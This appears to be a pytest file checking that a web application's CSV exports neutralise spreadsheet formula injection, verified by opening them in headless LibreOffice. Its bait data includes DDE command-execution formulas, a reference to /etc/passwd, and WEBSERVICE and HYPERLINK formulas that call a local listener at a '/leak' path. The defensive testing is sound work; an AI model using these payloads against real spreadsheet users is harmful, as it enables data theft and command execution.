"""CSV exports in a real spreadsheet: LibreOffice without a screen opens them and runs nothing (RELIABILITY H15)."""

import csv
import io
import shutil
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path
from xml.etree.ElementTree import iterparse

import pytest

from audit.services import alert, record
from propbot.http.tables import FORMULA_STARTS
from risk.services.hold import hold_engage
from tests.access.people import Cast

pytestmark = pytest.mark.django_db(transaction=True)
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
EXPORTS = {
    "report.csv": "/api/ui/ops_report.csv",
    "events.csv": "/api/ui/events/export?format=csv",
    "audit.csv": "/api/ui/audit/export?format=csv",
}


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """Whoever a formula would call."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


def planted(port: int) -> dict[str, str]:
    return {
        "sum": "=1+1",
        "command": "=cmd|'/c calc'!A1",
        "dde": '=DDE("soffice";"/etc/passwd";"A1")',
        "web": f'=WEBSERVICE("http://127.0.0.1:{port}/leak")',
        "link": f'=HYPERLINK("http://127.0.0.1:{port}/leak";"click")',
        "plus": "+1+1",
        "minus": "-1+1",
        "at": "@SUM(1,1)",
        "tab": "\t=1+1",
        "return": "\r=1+1",
        "newline": "\n=1+1",
        "spaces": "   =1+1",
        "quoted": '"=1+1',
    }


def opened(folder: Path, names: list[str]) -> dict[str, Path]:
    """Each file as LibreOffice understood it, as flat XML: a formula has an attribute of its own there."""
    command = [str(SOFFICE), "--headless", f"-env:UserInstallation=file://{folder}/profile"]
    command += ["--convert-to", "fods", "--outdir", str(folder / "out"), *[str(folder / name) for name in names]]
    subprocess.run(command, check=True, capture_output=True, timeout=240, cwd=folder)
    return {name: folder / "out" / f"{Path(name).stem}.fods" for name in names}


def cells(path: Path) -> tuple[list[str], set[str], list[str]]:
    """The formulas, the kinds and the texts of a sheet's cells."""
    formulas, kinds, texts = [], set(), []
    for _, element in iterparse(path):  # noqa: S314 - what LibreOffice has just written
        if element.tag == f"{TABLE}table-cell":
            formula = element.get(f"{TABLE}formula")
            formulas += [formula] if formula else []
            kinds.add(element.get(f"{OFFICE}value-type", "empty"))
            texts.append("\n".join("".join(part.itertext()) for part in element.findall(f"{TEXT}p")))
    return formulas, kinds, texts


def attempts_on(server: socket.socket) -> int:
    try:
        server.accept()
    except BlockingIOError:
        return 0
    return 1


@pytest.mark.timeout(300)
@pytest.mark.skipif(SOFFICE is None, reason="no LibreOffice here: apt-get install libreoffice-calc-nogui")
def test_no_export_runs_anything_in_a_spreadsheet(cast: Cast, listener: socket.socket, tmp_path: Path) -> None:
    bait = planted(listener.getsockname()[1])
    for name, text in bait.items():
        record(action=f"planted_{name}", target=text, details={"field": text, text: name})
        alert(kind="planted", severity="info", text=text, extra={text: text})
    with cast.alice.acting():
        hold_engage(reason=bait["web"], source=bait["command"])
    for name, path in EXPORTS.items():
        answer = cast.otto.get(path)
        assert answer.status_code == 200
        (tmp_path / name).write_bytes(answer.content)
    (tmp_path / "control.csv").write_text("section,key,value\na,b,=1+1\n")
    sheets = opened(tmp_path, [*EXPORTS, "control.csv"])
    assert cells(sheets["control.csv"])[0] == ["of:=1+1"], "the control shows that a formula would have been found"
    for name in EXPORTS:
        formulas, kinds, texts = cells(sheets[name])
        assert formulas == [], name
        assert "string" in kinds, name
        assert any("WEBSERVICE" in text for text in texts), f"{name}: what was planted is there, as text"
    assert attempts_on(listener) == 0


def test_every_planted_cell_is_neutral_in_the_text_too(cast: Cast) -> None:
    for name, text in planted(9).items():
        alert(kind=f"planted_{name}", severity="info", text=text)
    text = cast.otto.get("/api/ui/events/export?format=csv").content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "'=cmd|'/c calc'!A1" in cells
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
